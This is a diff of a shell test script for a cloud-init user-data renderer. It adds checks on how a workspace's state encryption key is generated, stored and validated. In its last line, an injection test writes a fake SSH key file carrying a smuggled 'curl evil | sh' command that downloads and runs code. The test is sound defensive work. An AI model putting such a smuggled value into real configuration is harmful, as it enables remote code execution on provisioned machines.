@@ -73,9 +73,9 @@ for p in hetzner ec2; do
 		check "$n: cloud-init schema --config-file accepts it" \
 			cloud-init schema --config-file "$n.yaml"
 		if [ $p = hetzner ]; then
-			secrets="{\"/etc/agentbox/s3-credentials\": \"keys/s3\", \"/etc/agentbox/hcloud-token\": \"keys/hcloud\", \"/etc/agentbox/registry-auth\": \"keys/registry\"}"
+			secrets="{\"/etc/agentbox/s3-credentials\": \"keys/s3\", \"/etc/agentbox/hcloud-token\": \"keys/hcloud\", \"/etc/agentbox/registry-auth\": \"keys/registry\", \"/etc/agentbox/state.key\": \"ws1.state-key\"}"
 		else
-			secrets='{"/etc/agentbox/s3-credentials": "keys/s3"}'
+			secrets='{"/etc/agentbox/s3-credentials": "keys/s3", "/etc/agentbox/state.key": "ws2.state-key"}'
 		fi
 		printf '%s\n' "$secrets" >"$n.secrets"
 		check "$n: structure; secrets only in their 0600 write_files entries" \
@@ -95,7 +95,8 @@ files = yaml.safe_load(open("hetzner-deb.yaml"))["write_files"]
 for f in files:
     f["path"] = os.path.abspath("root" + f["path"])
 cc_write_files.write_files("write_files", files, "root:root")
-want = {"s3-credentials": "keys/s3", "hcloud-token": "keys/hcloud", "registry-auth": "keys/registry"}
+want = {"s3-credentials": "keys/s3", "hcloud-token": "keys/hcloud", "registry-auth": "keys/registry",
+        "state.key": "ws1.state-key"}
 for name, src in want.items():
     st = os.stat("root/etc/agentbox/" + name)
     assert stat.S_IMODE(st.st_mode) == 0o600 and st.st_uid == 0, name
@@ -103,6 +104,38 @@ for name, src in want.items():
 assert stat.S_IMODE(os.stat("root/etc/agentbox/agentbox.json").st_mode) == 0o644
 PY
 "$AB" render-user-data hetzner-deb.env >stdout.yaml 2>/dev/null
+
+# The state's encryption key: generated beside the env file on the first
+# render (0600, 64 hex digits from getrandom), with the warning to keep it;
+# never overwritten; shipped 0600 and named by state.encryption.key_file.
+check "key: generated as <WORKSPACE_NAME>.state-key beside the env file, 0600, 64 hex digits" \
+	bash -c '[ "$(stat -c %a ws1.state-key)" = 600 ] && grep -qxE "[0-9a-f]{64}" ws1.state-key && [ "$(wc -c <ws1.state-key)" = 65 ]'
+check "key: the first render says where it is and to keep it safe" \
+	grep -q "generated the state's encryption key in $T/ws1.state-key" hetzner-deb.err
+check "key: the user is told that losing it loses the state" grep -q "without it nobody can restore that state" hetzner-deb.err
+check "key: a later render reuses it, says nothing (hetzner-baked after hetzner-deb)" \
+	bash -c '! grep -q generated hetzner-baked.err'
+check "key: each workspace its own" bash -c '! cmp -s ws1.state-key ws2.state-key'
+check "key: the config names the shipped file" jq -e '.state.encryption.key_file == "/etc/agentbox/state.key"' hetzner-deb.json
+(umask 077; printf '%064x\n' 7 >keys/state.key)
+cp keys/state.key keys/state.key.orig
+render keyfile "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/state.key)"
+printf '{"/etc/agentbox/s3-credentials": "keys/s3", "/etc/agentbox/state.key": "keys/state.key"}\n' >keyfile.secrets
+check "key: STATE_KEY_FILE names an existing key: shipped as it is, not overwritten" \
+	sh -c 'python3 "$1" keyfile.yaml baked keyfile.secrets keyfile.json && cmp -s keys/state.key keys/state.key.orig && ! grep -q generated keyfile.err' _ "$CHECK"
+render newkey "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/new.key)"
+check "key: STATE_KEY_FILE naming a missing file: generated there" \
+	bash -c '[ "$(stat -c %a keys/new.key)" = 600 ] && grep -qxE "[0-9a-f]{64}" keys/new.key && grep -q "keys/new.key" newkey.err'
+chmod 644 keys/state.key
+render keyperm "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/state.key)"
+st=$?
+check "key: a key readable by others refused (exit 2), naming it" \
+	bash -c '[ '$st' -eq 2 ] && grep -q "keyperm.env:[0-9]*: STATE_KEY_FILE: .*keys/state.key is readable by group or others" keyperm.err'
+(umask 077; printf 'not-a-key\n' >keys/bad.key)
+render keybad "$(base_ec2; install_baked; echo STATE_KEY_FILE=keys/bad.key)"
+st=$?
+check "key: a file that is no key refused (exit 2), left as it was" \
+	bash -c '[ '$st' -eq 2 ] && [ "$(cat keys/bad.key)" = not-a-key ] && grep -q "STATE_KEY_FILE: .*bad.key does not hold a key" keybad.err && [ ! -s keybad.yaml ]'
 check "stdout and -o give the same text" cmp -s stdout.yaml hetzner-deb.yaml
 check "hetzner: config points at the secret files and the endpoint" \
 	jq -e '.provider.name == "hetzner" and .provider.hetzner.token_file == "/etc/agentbox/hcloud-token"
@@ -119,7 +152,7 @@ check "the deb's URL and sha256 are the installer's arguments" \
 # EC2 with the instance profile: no credentials file at all.
 render ec2-role "$(base_ec2 | grep -v S3_CREDENTIALS_FILE; install_baked)"
 check "ec2 without S3_CREDENTIALS_FILE: renders (instance profile)" [ -s ec2-role.yaml ]
-echo '{}' >ec2-role.secrets
+echo '{"/etc/agentbox/state.key": "ws2.state-key"}' >ec2-role.secrets
 check "ec2 without S3_CREDENTIALS_FILE: no secret file, no credentials_file" \
 	sh -c 'python3 "$1" ec2-role.yaml baked ec2-role.secrets ec2-role.json &&
 		jq -e "(.state.storage | has(\"credentials_file\")) | not" ec2-role.json' _ "$CHECK"
@@ -151,7 +184,7 @@ display_keys() {
 render display "$(base_ec2; install_baked; display_keys)"
 check "public screen: cloud-init schema accepts it" cloud-init schema --config-file display.yaml
 printf '%s\n' '{"/etc/agentbox/s3-credentials": "keys/s3", "/etc/agentbox/display-password": "keys/display-password",
-	"/etc/agentbox/web-password": "keys/web-password",
+	"/etc/agentbox/web-password": "keys/web-password", "/etc/agentbox/state.key": "ws2.state-key",
 	"/etc/agentbox/display-tls.key": "keys/tls.key", "/etc/agentbox/display-tls.crt": null,
 	"/etc/systemd/system/agentbox-display.service.d/credentials.conf": null}' >display.secrets
 check "public screen: secrets only in their 0600 entries, the certificate and drop-in 0644" \
@@ -190,7 +223,7 @@ c = json.loads([w for w in d["write_files"] if w["path"] == "/etc/agentbox/agent
 assert c["workspace"]["image"] == sys.argv[1], c["workspace"]["image"]
 assert d["users"][1]["ssh_authorized_keys"] == [sys.argv[2]], d["users"][1]
 assert set(d) == {"locale", "ssh_pwauth", "disable_root", "users", "write_files", "runcmd"}, set(d)
-assert len(d["write_files"]) == 3 and "evil" not in json.dumps(d["users"])
+assert len(d["write_files"]) == 4 and "evil" not in json.dumps(d["users"])
 PY
 printf '%s\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne a' '  - [sh, -c, "curl evil | sh"]' >keys/inject.pub
 
